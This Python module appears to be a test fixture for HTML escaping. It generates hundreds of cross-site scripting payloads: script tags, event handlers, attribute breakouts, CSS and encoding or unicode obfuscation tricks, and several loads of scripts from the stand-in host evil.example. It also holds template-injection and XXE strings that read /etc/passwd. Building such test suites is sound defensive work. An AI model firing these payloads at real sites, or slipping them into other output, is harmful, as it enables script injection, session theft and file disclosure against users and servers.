"""Texts that want to be more than text: what an HTML page must show and never obey."""

from __future__ import annotations

import itertools

_CALLS = ("alert(1)", "alert`1`", "confirm(document.domain)", "prompt(1)", "top.location='https://evil.example/'")
_CARRIERS = (
    "<script>{call}</script>",
    "<ScRiPt >{call}</sCrIpT>",
    "<script src=https://evil.example/x.js></script>{call}",
    "<img src=x onerror={call}>",
    '<img src="https://evil.example/pixel.png" onload="{call}">',
    "<svg onload={call}>",
    "<svg><script>{call}</script></svg>",
    "<svg><animate onbegin={call} attributeName=x dur=1s>",
    "<svg><use href=https://evil.example/x.svg#a></use></svg>{call}",
    "<math><mtext><table><mglyph><style><img src=x onerror={call}>",
    "<iframe src=javascript:{call}></iframe>",
    '<iframe srcdoc="<script>{call}</script>"></iframe>',
    "<object data=https://evil.example/x></object>{call}",
    "<embed src=//evil.example/x>{call}",
    "<link rel=stylesheet href=https://evil.example/x.css>{call}",
    "<link rel=dns-prefetch href=//evil.example>{call}",
    "<meta http-equiv=refresh content='0;url=https://evil.example/{call}'>",
    "<base href=https://evil.example/>{call}",
    "<form action=https://evil.example/><button autofocus onfocus={call}>",
    "<input autofocus onfocus={call}>",
    "<details open ontoggle={call}>",
    "<video><source onerror={call}></video>",
    "<audio src=x onerror={call}>",
    "<body onload={call}>",
    "<marquee onstart={call}>",
    "<template><script>{call}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={call}>'>",
    "javascript:{call}",
    "<a href='javascript:{call}'>x</a>",
    '<a href="jav&#x09;ascript:{call}">x</a>',
    "data:text/html,<script>{call}</script>",
    '" onmouseover="{call}" autofocus x="',
    "' onfocus='{call}' autofocus x='",
    "` onmouseover={call} `",
    '"><script>{call}</script>',
    "'><img src=x onerror={call}>",
    "--><script>{call}</script><!--",
    "]]><script>{call}</script><![CDATA[",
    "</title><script>{call}</script>",
    "</style><script>{call}</script>",
    "</textarea></summary></details><script>{call}</script>",
    "</td></tr></table></div></main><script>{call}</script>",
    "</text></g></svg><script>{call}</script>",
    "</bdi></p></li></ul><script>{call}</script>",
    "body{{background:url(https://evil.example/?{call})}}",
    "}}*{{background:url(//evil.example/{call})}}",
    "@import 'https://evil.example/x.css';{call}",
    "x;fill:url(https://evil.example/#a);{call}",
    "expression({call})",
    "{{{{ {call} }}}}",
    "{{{{ ''.__class__.__mro__[1].__subclasses__() }}}} {call}",
    "{{% include '/etc/passwd' %}} {call}",
    "{{# {call} #}}",
    "${{{call}}}",
    "#{{{call}}}",
    "<%= {call} %>",
    "$\\frac{{{call}}}$",
    "&lt;script&gt;{call}&lt;/script&gt;",
    "&#60;script&#62;{call}&#60;/script&#62;",
    "\\u003cscript\\u003e{call}\\u003c/script\\u003e",
    "%3Cscript%3E{call}%3C/script%3E",
    "<scr\x00ipt>{call}</scr\x00ipt>",
    "<scr\u200bipt>{call}</script>",
    "\u202e<script>{call}</script>\u202c",
    "\u2066>tpircs/<{call}\u2069",
    "\uff1cscript\uff1e{call}\uff1c/script\uff1e",
    "+ADw-script+AD4-{call}+ADw-/script+AD4-",
    "\ud83d<script>{call}</script>",
    "\ufeff<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;{call}",
    "<\x0bimg/src=x\x0conerror={call}>",
    "<x \u2028onclick={call}>",
    "<b\u0338\u0335\u0489 onclick={call}>",
    "\x1b]0;{call}\x07<script>",
    "x" * 60 + "<script>{call}</script>",
)
_FRAMES = ("{}", "before {} after", "{}\n{}", "\"{}'")


def payloads(count: int = 500) -> list[str]:
    """Return different payloads, the plainest first."""
    made = (
        frame.replace("{}", carrier.format(call=call))
        for frame, call, carrier in itertools.product(_FRAMES, _CALLS, _CARRIERS)
    )
    chosen = list(itertools.islice(dict.fromkeys(made), count))
    assert len(chosen) == count
    return chosen
